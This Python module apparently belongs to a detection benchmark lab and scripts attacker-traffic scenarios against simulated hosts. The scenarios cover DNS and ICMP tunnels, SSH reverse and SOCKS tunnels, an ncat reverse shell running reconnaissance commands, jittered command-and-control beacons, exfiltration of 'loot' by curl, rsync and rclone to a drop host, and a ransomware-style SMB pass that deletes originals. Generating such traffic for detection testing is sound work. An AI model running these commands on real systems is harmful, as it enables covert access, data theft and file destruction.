"""Ways out: tunnels, implants that call, and what is taken along."""

from benchmarks.quality.lab import house
from benchmarks.quality.lab.scenario import scenario
from benchmarks.quality.lab.stage import Stage

ROGUE = house.ROGUE
CONTROL, DROP = house.SITES[house.CONTROL], house.SITES[house.DROP]
SSH = ("ssh", "-N", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null")


@scenario("iodine", "iodined", "iodine", "ping", by=(ROGUE,))
def iodine(stage: Stage) -> None:
    """IP inside of names, over the house's own name server."""
    server = stage.start(
        "outpost", "iodined", "-f", "-c", "-P", "lab", "-l", CONTROL, "10.200.0.1", house.TUNNEL_DOMAIN
    )
    client = stage.start(ROGUE, "iodine", "-f", "-r", "-P", "lab", house.DNS, house.TUNNEL_DOMAIN)
    stage.script(
        ROGUE, "sleep 6; curl -s -m 20 http://10.200.0.1/index.html; ping -c 20 -i 0.2 10.200.0.1", timeout_s=40
    )
    stage.wait(60)
    for pid in (client, server):
        stage.net.stop(pid)


@scenario("dns2tcp", "dns2tcpd", "dns2tcpc", by=(ROGUE,))
def dns2tcp(stage: Stage) -> None:
    """A page fetched through names."""
    settings = stage.services.file(
        "dns2tcp.conf",
        f"listen = {CONTROL}\nport = 53\nuser = root\nchroot = /tmp\ndomain = {house.TUNNEL_DOMAIN}\n"
        "resources = site:127.0.0.1:80\n",
    )
    server = stage.start("outpost", "dns2tcpd", "-F", "-f", settings)
    client = stage.start(ROGUE, "dns2tcpc", "-z", house.TUNNEL_DOMAIN, "-r", "site", "-l", 8000, house.DNS)
    for _ in range(6):
        stage.at(ROGUE, "curl", "-s", "-m", 15, "http://127.0.0.1:8000/index.html", timeout_s=16)
    for pid in (client, server):
        stage.net.stop(pid)


@scenario("ptunnel", "ptunnel", by=(ROGUE,))
def ptunnel(stage: Stage) -> None:
    """Uploads inside of pings."""
    server = stage.start("outpost", "ptunnel")
    client = stage.start(ROGUE, "ptunnel", "-p", CONTROL, "-lp", 8000, "-da", CONTROL, "-dp", 80)
    stage.script(
        ROGUE,
        "head -c 400K /dev/urandom > some.bin;"
        "for i in 1 2 3; do curl -s -m 15 -T some.bin http://127.0.0.1:8000/up; done",
        50,
    )
    for pid in (client, server):
        stage.net.stop(pid)


@scenario("ssh-reverse", "ssh", by=(ROGUE,))
def ssh_reverse(stage: Stage) -> None:
    """A way in that was opened from inside, used for half an hour."""
    words = ("-i", stage.folder / "key", "-R", "8022:10.77.0.14:80", f"root@{CONTROL}")
    pid = stage.start(ROGUE, *SSH, *words)
    for _ in range(15):
        stage.at("outpost", "curl", "-s", "-m", 5, "http://127.0.0.1:8022/page3")
        stage.wait(120)
    stage.net.stop(pid)


@scenario("ssh-socks", "ssh", "proxychains4", by=(ROGUE,))
def ssh_socks(stage: Stage) -> None:
    """A desk goes out through an unknown machine's shell for half an hour."""
    settings = stage.services.file("proxychains.conf", "strict_chain\nquiet_mode\n[ProxyList]\nsocks5 127.0.0.1 1080\n")
    pid = stage.start(ROGUE, *SSH, "-i", stage.folder / "key", "-D", 1080, f"root@{CONTROL}")
    for _ in range(15):
        stage.at(ROGUE, "proxychains4", "-f", settings, "curl", "-s", "-m", 5, f"http://{DROP}/page1")
        stage.wait(120)
    stage.net.stop(pid)


@scenario("reverse-shell", "ncat", "socat", by=(ROGUE,))
def reverse_shell(stage: Stage) -> None:
    """A shell for somebody outside, in the clear on a port of TLS, for forty minutes."""
    orders = stage.folder / "orders"
    stage.script("outpost", f"mkfifo {orders}")
    listening = stage.start("outpost", "sh", "-c", f"exec 3<>{orders}; ncat -l 4443 <&3")
    shell = stage.start(ROGUE, "ncat", CONTROL, 4443, "-e", "/bin/sh")
    for order in ("id", "uname -a", "cat /etc/hostname", "ip address", "ls -l /", "ps aux", "df", "env") * 5:
        stage.script("outpost", f"echo '{order}' > {orders}", timeout_s=5)
        stage.wait(60)
    for pid in (shell, listening):
        stage.net.stop(pid)


def _beats(stage: Stage, count: int, every_s: float, jitter: float, *words: object) -> None:
    for _ in range(count):
        stage.at(ROGUE, *words)
        stage.wait(every_s * stage.random.uniform(1 - jitter, 1 + jitter))


@scenario("beacon-http", by=(ROGUE,))
def beacon_http(stage: Stage) -> None:
    """Every minute, a fifth around it, ninety times."""
    _beats(stage, 90, 60, 0.2, "curl", "-s", "-m", 5, "-d", "id=17", f"http://{house.CONTROL}/check")


@scenario("beacon-https", by=(ROGUE,))
def beacon_https(stage: Stage) -> None:
    """Every two minutes, a third around it, forty-five times."""
    _beats(stage, 45, 120, 0.33, "curl", "-sk", "-m", 5, f"https://{house.CONTROL}/check")


@scenario("beacon-slow", by=(ROGUE,))
def beacon_slow(stage: Stage) -> None:
    """Every quarter of an hour, three tenths around it, for four hours."""
    _beats(stage, 16, 900, 0.3, "curl", "-sk", "-m", 5, f"https://{house.CONTROL}/check")


@scenario("beacon-dns", "dig", by=(ROGUE,))
def beacon_dns(stage: Stage) -> None:
    """A question for text every minute, with a fresh name."""
    for number in range(60):
        name = f"{stage.random.randbytes(8).hex()}.q{number}.{house.TUNNEL_DOMAIN}"
        stage.at(ROGUE, "dig", "+tries=1", "+time=1", f"@{house.DNS}", name, "TXT", timeout_s=3)
        stage.wait(60 * stage.random.uniform(0.8, 1.2))


@scenario("exfil-curl", "curl", by=(ROGUE,))
def exfil_curl(stage: Stage) -> None:
    """Sixty megabytes at once."""
    stage.script(ROGUE, f"head -c 60M /dev/urandom > loot.bin; curl -sk -T loot.bin https://{house.DROP}/up", 60)


@scenario("exfil-pieces", "curl", by=(ROGUE,))
def exfil_pieces(stage: Stage) -> None:
    """Two megabytes every four minutes, twenty times."""
    for _ in range(20):
        stage.script(ROGUE, f"head -c 2M /dev/urandom > piece.bin; curl -sk -T piece.bin https://{house.DROP}/up")
        stage.wait(240 * stage.random.uniform(0.7, 1.3))


@scenario("exfil-rsync", "rsync", by=(ROGUE,))
def exfil_rsync(stage: Stage) -> None:
    """Sixty megabytes by a tool of copies."""
    stage.script(ROGUE, f"head -c 60M /dev/urandom > loot.bin; rsync -a loot.bin rsync://{house.DROP}/copies/", 60)


@scenario("exfil-rclone", "rclone", by=(ROGUE,))
def exfil_rclone(stage: Stage) -> None:
    """Thirty files of two megabytes to a store."""
    stage.script("outpost", "mkdir -p store")
    server = stage.start("outpost", "rclone", "serve", "webdav", "store", "--addr", ":8088")
    stage.script(ROGUE, "mkdir -p loot; for i in $(seq 30); do head -c 2M /dev/urandom > loot/$i.bin; done", 40)
    remote = f":webdav,url='http://{house.DROP}:8088':"
    stage.at(ROGUE, "rclone", "copy", "--config", "/dev/null", "loot", remote, timeout_s=60)
    stage.net.stop(server)


@scenario("smb-encrypt", "smbclient", by=(ROGUE,))
def smb_encrypt(stage: Stage) -> None:
    """Letters of the wards are read, written anew under another ending, and the old ones deleted."""
    stage.script(ROGUE, "head -c 4K /dev/urandom > sealed.bin")
    orders = []
    for number in range(300):
        name = f"ward{number % 8}/letter{number:03d}.docx"
        orders += [f"get {name} /dev/null", f"put sealed.bin {name}.lck9", f"del {name}"]
    stage.at(
        ROGUE, "smbclient", "-N", "//files.lab.example/wards", stdin="\n".join(orders).encode() + b"\n", timeout_s=60
    )
    stage.services.letters()
